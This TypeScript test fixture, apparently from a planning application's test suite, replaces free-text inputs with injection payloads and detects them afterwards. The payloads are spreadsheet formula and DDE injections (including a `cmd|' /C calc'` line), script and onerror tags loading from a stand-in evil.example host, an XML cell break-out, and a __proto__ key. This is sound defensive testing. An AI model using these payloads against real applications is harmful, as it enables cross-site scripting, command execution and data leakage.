/** Texts that would have an effect if a program interpreted them. */
import { FIELDS, TABLES } from "../../src/plan/inputs/input-definitions";
import type { InputRow, InputValue, PlanInputs } from "../../src/plan/inputs/plan-inputs";

/** An address that must never be requested. */
export const EVIL = "http://evil.example/";

/** Encloses names, so that they stay different from each other. */
export const HOSTILE: readonly ((name: string) => string)[] = [
  (name) => `=HYPERLINK("${EVIL}","${name}")`,
  (name) => `<img src="${EVIL}x.png" onerror="globalThis.hacked=1">${name}`,
  (name) => `+WEBSERVICE("${EVIL}")&"${name}"`,
  (name) => `"><script src="${EVIL}a.js">hacked=1</script>${name}`,
  (name) => `@SUM(1)${name}`,
  (name) => `-1+cmd|' /C calc'!A0 ${name}`,
  (name) => `]]></t></is><f>HYPERLINK("${EVIL}")</f>&lt;${name}&`,
  (name) => `__proto__ ${name}`,
];

const kindOf = (name: string): number =>
  [...name].reduce((sum, letter) => sum + letter.charCodeAt(0), 0) % HOSTILE.length;

/** The same name gives the same text, so that references to it still match. */
export const hostile = (name: string): string => HOSTILE[kindOf(name)]!(name);

/** Texts that name entries of the catalogue must stay. */
const CATALOGUE = new Set([
  "system",
  "feature",
  "mode",
  "kind",
  "device",
  "config",
  "adapter",
  "type",
  "loop",
  "tower",
]);

/** Replaces each text by another one; equal texts by the same one. */
type Renaming = (name: string) => string;

function renamedRow(
  row: InputRow,
  isFree: (name: string) => boolean,
  renaming: Renaming,
): InputRow {
  return Object.fromEntries(
    Object.entries(row).map(([name, value]): [string, InputValue] => [
      name,
      typeof value === "string" && isFree(name) ? renaming(value) : value,
    ]),
  );
}

/** Inputs with every free text replaced: names, owners, notes, shifts, scenarios. */
export function renamedInputs(
  { fields, tables, scenarios }: PlanInputs,
  renaming: Renaming,
): PlanInputs {
  const texts = Object.entries(FIELDS)
    .filter(([, { kind }]) => kind === "text")
    .map(([name]) => name)
    .filter((name) => name !== "alternatives.words");
  return {
    fields: {
      ...renamedRow(fields, (name) => texts.includes(name), renaming),
      ...Object.fromEntries(
        ["cover.customer", "cover.author", "case.own", "k.reason"].map((name) => [
          name,
          renaming(name),
        ]),
      ),
    },
    tables: Object.fromEntries(
      Object.entries(tables).map(([key, rows]) => [
        key,
        rows.map((row) =>
          renamedRow(
            row,
            (name) => TABLES[key]!.columns[name]?.kind === "text" && !CATALOGUE.has(name),
            renaming,
          ),
        ),
      ]),
    ),
    scenarios: Object.fromEntries(
      Object.entries(scenarios).map(([id, { values, workloads }]) => [
        id,
        {
          values,
          workloads: Object.fromEntries(
            Object.entries(workloads).map(([name, rate]) => [renaming(name), rate]),
          ),
        },
      ]),
    ),
  };
}

/** The same with texts that would have an effect. */
export const hostileInputs = (inputs: PlanInputs): PlanInputs => renamedInputs(inputs, hostile);

export const isHostile = (text: unknown): text is string =>
  typeof text === "string" && /evil\.example|^@SUM|cmd\||__proto__/.test(text);
